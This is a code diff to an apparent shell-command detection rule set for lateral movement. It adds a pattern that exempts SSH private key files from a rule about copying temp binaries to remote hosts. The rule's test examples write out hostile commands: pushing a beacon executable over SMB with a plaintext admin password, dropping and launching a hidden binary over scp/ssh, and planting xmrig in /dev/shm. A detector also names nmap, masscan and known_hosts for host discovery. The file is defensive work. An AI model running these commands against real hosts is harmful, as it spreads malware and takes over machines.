@@ -354,6 +354,8 @@ function remotePayload(families: ReadonlySet<string>) {
 
 /** Files that hold data a program reads, not a program: certificates, requests, public keys, configuration, key files in JSON. */
 const DATA_FILE = /\.(?:crt|cer|csr|pub|json|ya?ml|toml|conf|cfg|ini|txt|csv)$/;
+/** An SSH private key by its name (`id_ed25519`, `deploy01_ansible_ed25519`). */
+const KEY_FILE = /(?:^|\/)(?:id_[a-z0-9]+|[\w.-]*[_-](?:ed25519|rsa|ecdsa|dsa))$/;
 
 /** The line finds its hosts itself: from known_hosts, the ARP table or neighbours, or a scan. */
 const discoveredHosts = (i: AnalysisInput): boolean => (i.view?.commands ?? []).some((c) => ['arp', 'nmap', 'fping', 'masscan'].includes(c.name) || (c.name === 'ip' && c.argv.some((w) => w.startsWith('neigh'))) || c.argv.some((w) => w.includes('known_hosts')) || c.redirects.some((r) => r.target.includes('known_hosts')));
@@ -514,15 +516,16 @@ export const RULES: readonly Rule[] = [
       const dest = ops[ops.length - 1]!;
       const remotePath = /^[^/:]+:(.*)$/.exec(dest)?.[1];
       if (remotePath === undefined) return undefined;
-      // data files carry no code: passing a certificate or a key file through /tmp is how one gets installed
-      const sources = ops.slice(0, -1).filter((s) => !DATA_FILE.test(s));
+      // data files carry no code: passing a certificate or a key file through /tmp is how one gets installed (the
+      // key's own copying is the credential rules' to judge)
+      const sources = ops.slice(0, -1).filter((s) => !DATA_FILE.test(s) && !KEY_FILE.test(s) && classifyPath(s)?.role !== 'secret');
       if (sources.length === 0) return undefined;
       const shm = remotePath.startsWith('/dev/shm');
       // a temp or hidden binary dropped straight into another host's system or key directories
       const planted = sources.some((s) => isStagingPath(s)) && (SYSTEM_TARGET.test(remotePath) || classifyPath(remotePath)?.role === 'exec-location');
       return shm || planted || (inTemp(remotePath) && sources.some((s) => inTemp(s))) ? argv.join(' ') : undefined;
     },
-    examples: { fire: ["smbclient //10.0.10.28/C$ -U 'administrator%P@ssw0rd!' -c 'put /tmp/beacon.exe Windows\\Temp\\svc.exe'", "scp /tmp/.b deploy@10.0.0.15:/tmp/.b && ssh deploy@10.0.0.15 'chmod +x /tmp/.b && nohup /tmp/.b &'", "sshpass -p 'P@ssw0rd' scp /tmp/xmrig root@172.16.3.4:/dev/shm/", 'rsync -a /tmp/tools/ admin@10.0.0.8:/var/tmp/t/', "rsync -e 'ssh -o StrictHostKeyChecking=no' /tmp/.u root@10.44.0.9:/usr/local/bin/syncd"], quiet: ['scp /tmp/airflow-onprem-new.json airflow01.dc1.corp.internal:/tmp/sa.json.new', "scp -q /tmp/wiki.crt wiki-01.corp.lan:/tmp/wiki.crt && ssh wiki-01.corp.lan 'sudo install -m 644 /tmp/wiki.crt /etc/ssl/corp/wiki.crt'", 'scp build.tar.gz deploy@staging:/srv/app/', 'rsync -av bin/tool deploy@staging:/usr/local/bin/tool', 'rsync -avz --delete dist/ deploy@staging.internal:/srv/app/public/', 'scp /tmp/report.pdf me@laptop.local:~/Downloads/'] },
+    examples: { fire: ["smbclient //10.0.10.28/C$ -U 'administrator%P@ssw0rd!' -c 'put /tmp/beacon.exe Windows\\Temp\\svc.exe'", "scp /tmp/.b deploy@10.0.0.15:/tmp/.b && ssh deploy@10.0.0.15 'chmod +x /tmp/.b && nohup /tmp/.b &'", "sshpass -p 'P@ssw0rd' scp /tmp/xmrig root@172.16.3.4:/dev/shm/", 'rsync -a /tmp/tools/ admin@10.0.0.8:/var/tmp/t/', "rsync -e 'ssh -o StrictHostKeyChecking=no' /tmp/.u root@10.44.0.9:/usr/local/bin/syncd"], quiet: ['scp /tmp/airflow-onprem-new.json airflow01.dc1.corp.internal:/tmp/sa.json.new', 'scp /tmp/deploy01_ansible_ed25519 deploy-01.basalt.lan:/tmp/id_ansible', "scp -q /tmp/wiki.crt wiki-01.corp.lan:/tmp/wiki.crt && ssh wiki-01.corp.lan 'sudo install -m 644 /tmp/wiki.crt /etc/ssl/corp/wiki.crt'", 'scp build.tar.gz deploy@staging:/srv/app/', 'rsync -av bin/tool deploy@staging:/usr/local/bin/tool', 'rsync -avz --delete dist/ deploy@staging.internal:/srv/app/public/', 'scp /tmp/report.pdf me@laptop.local:~/Downloads/'] },
   },
   {
     id: 'PX-LATERAL-011', name: 'uses-remote-docker-daemon', score: 65, tactic: 'lateral_movement', technique: 'T1609',
